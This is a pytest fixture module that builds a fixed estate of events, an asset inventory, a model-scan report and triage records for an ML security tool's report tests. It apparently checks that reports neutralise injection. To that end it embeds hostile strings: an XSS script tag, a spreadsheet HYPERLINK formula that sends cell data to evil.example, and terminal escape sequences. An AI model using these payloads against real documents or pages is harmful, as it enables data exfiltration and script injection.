"""A small fixed estate for the report tests: two analysis runs, triage decisions and hostile input text.

Everything is deterministic: fixed timestamps in the inputs, ``now`` passed to the engine and to
triage, and a fixed ``generated_at`` for the reports, so golden files stay byte-stable (the temporary
folder is replaced by ``<TMP>`` when comparing).
"""

from __future__ import annotations

import json
import shutil
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from analyzers.engine import analyze
from analyzers.settings import AnalyzerSettings, Suppression
from mlspm.cli.report_cmd import catalog
from mlspm.config import Config
from mlspm.enums import TriageStatus
from mlspm.findings import FindingFilter
from mlspm.ingest import ingest_paths
from mlspm.report import ReportData, collect
from mlspm.store import Store
from mlspm.triage import set_status

RUN1 = datetime(2026, 3, 15, 6, 0, tzinfo=UTC)
RUN2 = datetime(2026, 3, 17, 6, 0, tzinfo=UTC)
GENERATED = datetime(2026, 3, 18, 9, 30, tzinfo=UTC)
START = datetime(2026, 3, 2, tzinfo=UTC)

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# A partner session whose name carries HTML, Rich markup, a terminal escape and a Markdown pipe.
PARTNER = f"arn:aws:sts::111122223333:assumed-role/partner/{SCRIPT}[bold]x[/]\x1b[2J|col"
ALICE = "arn:aws:iam::111122223333:user/alice"
ENDPOINT = "arn:aws:sagemaker:us-east-1:111122223333:endpoint/fraud"
EVIL_AGENT = f"{SCRIPT} [bold red]x[/] \x1b]0;pwned\x07"
HOSTILE_DATASET = f"ledger {SCRIPT}"
SCANNED = "/srv/artifacts/ml-models/fraud/1.0/model.pkl"


@dataclass(frozen=True)
class Estate:
    db: Path
    root: Path
    false_positive: str
    risk_accepted: str
    confirmed: str


def _events_week1() -> list[dict[str, object]]:
    events: list[dict[str, object]] = []
    n = 0
    for d in range(12):
        for h in range(8, 16):
            for principal in (PARTNER, ALICE):
                n += 1
                events.append(
                    {
                        "event_id": f"a{n}",
                        "ts": (START + timedelta(days=d, hours=h)).isoformat(),
                        "principal": principal,
                        "action": "InvokeEndpoint",
                        "resource": ENDPOINT,
                        "source_ip": "198.51.100.7",
                        "user_agent": "boto3/1.34",
                        "status_code": "200",
                    }
                )
    return events


def _events_week2() -> list[dict[str, object]]:
    events: list[dict[str, object]] = []
    for i in range(300):
        events.append(
            {
                "event_id": f"b{i}",
                "ts": (START + timedelta(days=14, hours=3, seconds=i * 11)).isoformat(),
                "principal": PARTNER,
                "action": "InvokeEndpoint",
                "resource": ENDPOINT,
                "source_ip": "203.0.113.66",
                "user_agent": EVIL_AGENT,
                "status_code": "200",
            }
        )
    # a credential probing models it may not read: a burst of denials on distinct resources
    for i in range(7):
        events.append(
            {
                "event_id": f"c{i}",
                "ts": (START + timedelta(days=14, hours=5, minutes=i * 3)).isoformat(),
                "principal": FORMULA,
                "action": "GetObject",
                "resource": f"s3://ml-models/fraud/1.0/shard-{i}.bin",
                "source_ip": "192.0.2.9",
                "status_code": "403",
                "outcome": "failure",
            }
        )
    return events


def _write_jsonl(path: Path, rows: list[dict[str, object]], extra_lines: tuple[str, ...] = ()) -> Path:
    text = "\n".join(json.dumps(r) for r in rows) + "\n" + "".join(line + "\n" for line in extra_lines)
    path.write_text(text, encoding="utf-8")
    return path


def _inventory(path: Path, *, ledger_owner: str) -> Path:
    path.write_text(
        "kind,name,version,uri,owner,environment,classification,format,public,encrypted,locators,"
        "trained_on,deployed_as,stored_in\n"
        f"endpoint,fraud,,{ENDPOINT},risk-ml,prod,confidential,,false,true,,,,\n"
        "model,fraud-detector,1.0,s3://ml-models/fraud/1.0/,risk-ml,prod,confidential,pickle,false,true,"
        f"{SCANNED},dataset:transactions,endpoint:fraud,bucket:ml-models\n"
        "dataset,transactions,,s3://ml-data/transactions/,data-eng,prod,confidential,,false,true,,,,bucket:ml-data\n"
        f'dataset,"{HOSTILE_DATASET}",,s3://ml-data/ledger/,{ledger_owner},prod,internal,,false,true,,,,\n'
        "bucket,ml-models,,s3://ml-models/,ml-platform,prod,confidential,,false,true,,,,\n"
        "bucket,ml-data,,s3://ml-data/,ml-platform,prod,confidential,,false,true,,,,\n"
        "bucket,open-models,,s3://open-models/,ml-platform,,public,,true,false,,,,\n",
        encoding="utf-8",
    )
    return path


def _modelscan(path: Path) -> Path:
    report = {
        "summary": {
            "total_issues_by_severity": {"LOW": 0, "MEDIUM": 0, "HIGH": 0, "CRITICAL": 1},
            "total_issues": 1,
            "input_path": "/srv/artifacts",
            "absolute_path": "/srv/artifacts",
            "modelscan_version": "0.8.8",
            "timestamp": "2026-03-10T06:00:00",
            "scanned": {"total_scanned": 1, "scanned_files": ["ml-models/fraud/1.0/model.pkl"]},
            "skipped": {"total_skipped": 0, "skipped_files": []},
        },
        "issues": [
            {
                "description": "Use of unsafe operator 'system' from module 'posix'",
                "operator": "system",
                "module": "posix",
                "source": "ml-models/fraud/1.0/model.pkl",
                "scanner": "modelscan.scanners.PickleUnsafeOpScan",
                "severity": "CRITICAL",
            }
        ],
        "errors": [],
    }
    path.write_text(json.dumps(report, indent=1), encoding="utf-8")
    return path


def _fingerprint(store: Store, analyzer_id: str) -> str:
    with store.cursor() as cur:
        rows = cur.execute(
            "SELECT fingerprint FROM findings WHERE analyzer_id = ? ORDER BY fingerprint", [analyzer_id]
        ).fetchall()
    assert rows, f"the estate must make {analyzer_id} fire"
    return str(rows[0][0])


def _build(root: Path) -> Estate:
    inputs = root / "inputs"
    inputs.mkdir()
    db = root / "report.duckdb"
    cfg = Config(db_path=db)
    first = [
        _write_jsonl(inputs / "gateway-week1.jsonl", _events_week1(), ("{not json",)),
        _inventory(inputs / "assets-v1.csv", ledger_owner=""),
        _modelscan(inputs / "modelscan.json"),
    ]
    second = [
        _write_jsonl(inputs / "gateway-week2.jsonl", _events_week2()),
        _inventory(inputs / "assets-v2.csv", ledger_owner="finance-ml"),
    ]
    quiet = AnalyzerSettings(
        overrides={"access_permission_stale": {"stale_days": 120}},
        suppressions=[
            Suppression(
                analyzer="access_store_unencrypted",
                principal="*",
                asset="bucket:open-models",
                reason="public demo bucket, nothing sensitive",
                expires=None,
            )
        ],
    )
    with Store(db) as store:
        ingest_paths(store, first, cfg)
        analyze(store, quiet, now=RUN1)
        fp_public = _fingerprint(store, "access_asset_public")
        fp_scan = _fingerprint(store, "supply_scan_unsafe_operator")
        set_status(
            store,
            [fp_public],
            TriageStatus.FALSE_POSITIVE,
            note="open-models is the public demo bucket | by design",
            actor="dana",
            now=RUN1 + timedelta(hours=2),
        )
        set_status(
            store,
            [fp_scan],
            TriageStatus.RISK_ACCEPTED,
            note=f"quarantined; rebuild scheduled {FORMULA}",
            assignee="ml-platform",
            expires_at=datetime(2026, 6, 30, tzinfo=UTC),
            actor="sam",
            now=RUN1 + timedelta(hours=3),
        )
        ingest_paths(store, second, cfg)
        analyze(store, quiet, now=RUN2)
        fp_spike = _fingerprint(store, "usage_inference_volume_spike")
        set_status(
            store,
            [fp_spike],
            TriageStatus.CONFIRMED,
            note="partner key scraping the fraud model; key revoked",
            assignee="ir-team",
            actor="dana",
            now=RUN2 + timedelta(hours=1),
        )
    return Estate(db, root, fp_public, fp_scan, fp_spike)


@pytest.fixture(scope="session")
def estate(tmp_path_factory: pytest.TempPathFactory) -> Estate:
    return _build(tmp_path_factory.mktemp("report-estate"))


@pytest.fixture
def writable_db(estate: Estate, tmp_path: Path) -> Path:
    """A copy of the estate's database for a test that writes to it."""
    db = tmp_path / "copy.duckdb"
    shutil.copy(estate.db, db)
    return db


@pytest.fixture(scope="session")
def report_data(estate: Estate) -> ReportData:
    rules, frameworks = catalog()
    with Store(estate.db, create=False) as store, store.cursor() as cur:
        return collect(
            cur,
            FindingFilter(include_inactive=True),
            rules,
            frameworks,
            database=str(estate.db),
            generated_at=GENERATED,
        )
